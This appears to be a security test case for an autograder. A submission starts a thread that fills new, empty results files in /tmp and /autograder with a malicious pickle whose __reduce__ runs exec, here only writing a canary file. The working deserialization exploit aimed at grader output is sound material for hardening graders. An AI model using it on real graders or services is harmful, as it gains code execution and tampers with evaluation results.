"""Watches temporary folders for results files of the grader and fills each that is still empty with a pickle of its own.

base: unsolved
max-score: 0
canary: outside-file
"""
# %% extra after imports
import glob
import os
import pickle
import threading
import time


class Payload:
    def __reduce__(self):
        return exec, ("open('@OUTSIDE_DIR@/unpickled-results', 'w').write('x')",)


started = time.time()


def watch():
    end = time.monotonic() + 120
    while time.monotonic() < end:
        for path in glob.glob("/tmp/*") + glob.glob("/tmp/*/*") + glob.glob("/autograder/**", recursive=True):
            if os.path.isfile(path) and os.path.basename(path).startswith(("tmp", "results", ".OTTER")):
                if os.path.getsize(path) or os.path.getmtime(path) < started:
                    continue
                try:
                    with open(path, "wb") as file:
                        pickle.dump(Payload(), file)
                except OSError:
                    pass
        time.sleep(0.2)


threading.Thread(target=watch, daemon=True).start()
